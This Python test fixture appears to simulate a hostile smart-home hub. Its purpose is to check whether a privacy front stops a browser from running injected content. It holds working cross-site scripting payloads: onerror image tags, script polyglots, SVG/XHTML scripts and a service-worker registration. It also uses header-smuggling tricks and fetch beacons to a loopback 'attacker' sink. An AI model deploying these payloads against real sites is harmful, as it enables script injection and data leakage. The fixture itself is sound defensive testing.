"""A hub in foreign hands that wants the browser: what it says, and where its words may come out.

Behind the real front, or straight to the browser as the control. Its sink takes whatever the browser opens.
"""

import asyncio
import base64
import hashlib
import json
import re
import socket
import threading
from collections.abc import Awaitable, Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

from privacy.gate.front.connection import House
from privacy.gate.front.files import AppFiles
from privacy.gate.front.front import Front, Routes, address_of
from privacy.gate.front.streams import ParkedStreams
from privacy.gate.jailed.runtime import listen, listen_on_loopback

MARK = "taken"
HOSTILE = "/api/hostile/"
GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
BARE = b"<!doctype html><html><head><title>home</title></head><body></body></html>"
TYPES = {  # what the answer of each name calls itself
    "html": "Content-Type: text/html",
    "xhtml": "Content-Type: application/xhtml+xml",
    "svg": "Content-Type: image/svg+xml",
    "script": "Content-Type: text/javascript",
    "css": "Content-Type: text/css",
    "json": "Content-Type: application/json",
    "problem": "Content-Type: application/problem+json",
    "json-as-html": "Content-Type: application/json;text/html",
    "json-or-html": "Content-Type: application/json, text/html",
    "html-then-json": "Content-Type: text/html\r\nContent-Type: application/json",
    "json-then-html": "Content-Type: application/json\r\nContent-Type: text/html",
    "picture": "Content-Type: image/png",
    "plain": "Content-Type: text/plain",
    "stream": "Content-Type: multipart/x-mixed-replace; boundary=x",
    "untyped": "X-Type: none",
    "chunked": "Content-Type: text/html\r\nTransfer-Encoding: chunked",
    "early": "Content-Type: text/html",
}
REDIRECTS = {f"redirect-{status}": status for status in (301, 302, 307)}
KINDS = [*TYPES, *REDIRECTS]
RUNS_AS_DOCUMENT = {
    "html",
    "xhtml",
    "svg",
    "untyped",
    "chunked",
    "early",
}  # in a browser with nothing between
RUNS_AS_SCRIPT = {"script", "plain", "json", "problem"}  # without nosniff a browser asks few questions


class Sink:
    """The attacker's server on loopback: counts connections, before any word is said, and keeps paths."""

    def __init__(self) -> None:
        self.connections, self.paths = 0, set[str]()
        self.address = ""

    async def serve(self) -> asyncio.Server:
        server = await asyncio.start_server(self._take, "127.0.0.1", 0)
        self.address = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        return server

    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        with suppress(OSError, asyncio.IncompleteReadError), closing(writer):
            head = await reader.readuntil(b"\r\n\r\n")
            self.paths.add(head.split()[1].decode())
            writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")
            await writer.drain()


@dataclass
class HostileHub:
    """sink: where it wants the browser to go. asked: the targets it was asked for.

    only: the one attack that it answers the app's own questions with, too; None: a hostile home.
    """

    sink: Sink
    only: str | None = None
    asked: list[str] = field(default_factory=list)

    async def converse(
        self, first: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        """Answer one request of which ``first`` is read already."""
        head = first + await reader.readuntil(b"\r\n\r\n")
        if (length := re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)) is not None:
            await reader.readexactly(int(length[1]))
        target = head.split()[1].decode()
        self.asked.append(target)
        if (key := re.search(rb"(?i)\r\nsec-websocket-key: *(\S+)", head)) is not None:
            writer.write(_upgraded(key[1]) + _text_frame(json.dumps(self.house()).encode()))
            await writer.drain()
            await reader.read()
            return
        if target.startswith(HOSTILE):
            writer.write(self.attack(target.removeprefix(HOSTILE).partition("?")[0]))
        elif self.only is not None:
            writer.write(self.attack(self.only))
        else:
            writer.write(self.of_the_api(target))
        await writer.drain()

    def attack(self, kind: str) -> bytes:
        """One answer that no honest hub gives."""
        if kind in REDIRECTS:
            where = f"Location: {self.sink.address}/{kind}/location"
            return self._answer(kind, f"{REDIRECTS[kind]} Elsewhere", [where], b"")
        bodies = {"xhtml": self._xhtml, "svg": self._svg, "css": self._css}
        body = bodies.get(kind, self._polyglot)(kind).encode()
        if kind == "stream":
            body = b"--x\r\nContent-Type: text/html\r\n\r\n" + body + b"\r\n--x--"
        if kind == "chunked":
            body = b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body)
        answer = self._answer(kind, "200 OK", [TYPES[kind]], body)
        link = f"Link: <{self.sink.address}/early/hint>; rel=preload; as=style"
        return f"HTTP/1.1 103 Early Hints\r\n{link}\r\n\r\n".encode() + answer if kind == "early" else answer

    def of_the_api(self, target: str) -> bytes:
        """What the app asks for: well-formed, and every text in it is HTML that acts."""
        json_type = ["Content-Type: application/json"]
        name = target.partition("?")[0].removeprefix("/api/v1/")
        if name == "setup":
            return self._answer("setup", "200 OK", json_type, json.dumps({"claimed": True}).encode())
        if name == "login" and self.asked.count(target) > 1:
            session = {"token": "A" * 43, "role": "owner", "expires_at": None, "name": self.words("session")}
            return self._answer("login", "200 OK", json_type, json.dumps(session).encode())
        problem = {key: self.words(key) for key in ("title", "detail", "code", "field", "allowed", "way_out")}
        content = json.dumps({**problem, "status": 422, "value": self.words("value")}).encode()
        return self._answer("problem", "422 Refused", ["Content-Type: application/problem+json"], content)

    def house(self) -> dict[str, object]:
        """The first message of the events: a home whose every name is HTML."""
        state: dict[str, object] = {
            "type": "BOOL", "unit": self.words("unit"), "min": None, "max": None, "step": None, "enum": [],
            "special": {}, "readable": True, "writable": True, "event": True, "category": "state",
        }  # fmt: skip
        address = "bidcos:SIM0000001"
        at = "2026-01-01T00:00:00.000Z"
        device = {
            "address": address, "model": self.words("model"), "firmware": self.words("firmware"),
            "name": self.words("device"), "room": "r", "reachable": True, "pending": False,
            "channels": [{"index": 1, "type": "SWITCH", "parameters": {"STATE": state}}],
        }  # fmt: skip
        driver = {"name": self.words("driver"), "state": "lost", "detail": self.words("detail"), "since": at}
        point = {"value": self.words("point"), "unit": self.words("unit"), "at": at, "origin": "reported"}
        return {
            "seq": 1,
            "snapshot": [{"id": f"{address}:1.STATE", **point}],
            "devices": [device],
            "rooms": [{"id": "r", "name": self.words("room")}],
            "drivers": [{**driver, "airtime": None}],
        }

    def words(self, where: str) -> str:
        """A text that runs where somebody takes it for HTML, and fetches where scripts are off."""
        return f"<img src=x onerror=\"{self._act(where)}\"><img src='{self.sink.address}/{where}/img'>{where}"

    def _answer(self, kind: str, status: str, more: list[str], body: bytes) -> bytes:
        sink = f"{self.sink.address}/{kind}"
        lines = [
            f"HTTP/1.1 {status}",
            *more,
            f"Set-Cookie: {MARK}=1; Path=/",
            f"Link: <{sink}/link>; rel=preload; as=script, <{self.sink.address}>; rel=preconnect",
            f"Refresh: 0;url={sink}/refresh",
            "Service-Worker-Allowed: /",
            "Content-Security-Policy: default-src * 'unsafe-inline' 'unsafe-eval'; sandbox allow-scripts "
            "allow-same-origin allow-top-navigation",
            "Access-Control-Allow-Origin: *",
            f"Content-Location: {sink}/content",
            f'WWW-Authenticate: Basic realm="{MARK}"',
        ]
        if kind != "chunked":
            lines.append(f"Content-Length: {len(body)}")
        return "\r\n".join([*lines, "", ""]).encode() + body

    def _act(self, kind: str) -> str:
        ran = f"{self.sink.address}/{kind}/ran"
        return (
            f"try{{localStorage.setItem('{MARK}-{kind}','1');document.title='{MARK}';"
            f"navigator.serviceWorker.register('{HOSTILE}script?worker',{{scope:'/'}})}}catch{{}};"
            f"fetch('{ran}',{{mode:'no-cors'}})"
        )

    def _polyglot(self, kind: str) -> str:
        # a script takes the first line for a comment, a document the second for text
        return f"<!-- --><script>{self._act(kind)}</script>\n{self._act(kind)}\n"

    def _xhtml(self, kind: str) -> str:
        return f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{self._act(kind)}</script></html>'

    def _svg(self, kind: str) -> str:
        return f'<svg xmlns="http://www.w3.org/2000/svg"><script>{self._act(kind)}</script></svg>'

    def _css(self, kind: str) -> str:
        return f"@import url({self.sink.address}/{kind}/import);"


def _upgraded(key: bytes) -> bytes:
    accept = base64.b64encode(hashlib.sha1(key + GUID).digest()).decode()  # RFC 6455 wants it
    return (
        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Accept: {accept}\r\nSec-WebSocket-Protocol: homebase.v1\r\n"
        f"Set-Cookie: {MARK}=1\r\n\r\n"
    ).encode()


def _text_frame(text: bytes) -> bytes:
    return b"\x81\x7e" + len(text).to_bytes(2, "big") + text


@dataclass(frozen=True)
class Place:
    """Where a browser meets the hub."""

    address: str
    hub: HostileHub

    @property
    def sink(self) -> Sink:
        return self.hub.sink


Serve = Callable[[HostileHub, socket.socket], Awaitable[None]]


@contextmanager
def behind_the_front(folder: Path) -> Iterator[Place]:
    """The hub where it belongs: it connects to stream.sock, the browser talks with the front."""
    streams_at = folder / "stream.sock"

    async def serve(hub: HostileHub, listening: socket.socket) -> None:
        streams = ParkedStreams(lambda _: True)
        find = Routes(AppFiles().answer, {}).find
        house = House(port=listening.getsockname()[1], find=find, streams=streams, record=lambda _: None)
        async with asyncio.TaskGroup() as tasks:
            tasks.create_task(streams.serve(listen(streams_at, 0o600)))
            tasks.create_task(Front(house).serve(listening, address_of))
            for _ in range(4):
                tasks.create_task(_park(hub, streams_at))

    with _served(serve) as place:
        yield place


@contextmanager
def straight() -> Iterator[Place]:
    """The control: the same hub's bytes as it sent them, beside a bare page of the same origin."""

    async def serve(hub: HostileHub, listening: socket.socket) -> None:
        async def one(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            with suppress(OSError, asyncio.IncompleteReadError), closing(writer):
                start = await reader.readexactly(9)
                if start.startswith(b"GET /api/") or not start.startswith(b"GET "):
                    await hub.converse(start, reader, writer)
                    return
                await reader.readuntil(b"\r\n\r\n")
                head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(BARE)
                writer.write(head + BARE)
                await writer.drain()

        server = await asyncio.start_server(one, sock=listening)
        try:
            await asyncio.get_running_loop().create_future()
        finally:
            server.close()

    with _served(serve) as place:
        yield place


async def _park(hub: HostileHub, at: Path) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_unix_connection(str(at))
        except OSError:  # not listening yet
            await asyncio.sleep(0.05)
            continue
        with suppress(OSError, asyncio.IncompleteReadError), closing(writer):
            while first := await reader.read(1):
                await hub.converse(first, reader, writer)


@contextmanager
def _served(serve: Serve) -> Iterator[Place]:
    """Run it in a thread: Playwright has this one."""
    ready = threading.Event()
    places: list[Place] = []
    stops: list[Callable[[], object]] = []

    async def run() -> None:
        sink = Sink()
        listening = listen_on_loopback(0)
        server = await sink.serve()
        serving = asyncio.ensure_future(serve(hub := HostileHub(sink), listening))
        loop = asyncio.get_running_loop()
        stops.append(lambda: loop.call_soon_threadsafe(serving.cancel))
        places.append(Place(f"http://127.0.0.1:{listening.getsockname()[1]}", hub))
        ready.set()
        await asyncio.wait([serving])
        server.close()
        listening.close()

    thread = threading.Thread(target=lambda: asyncio.run(run()))
    thread.start()
    assert ready.wait(5), "the hub did not start"
    try:
        yield places[0]
    finally:
        stops[0]()
        thread.join(5)
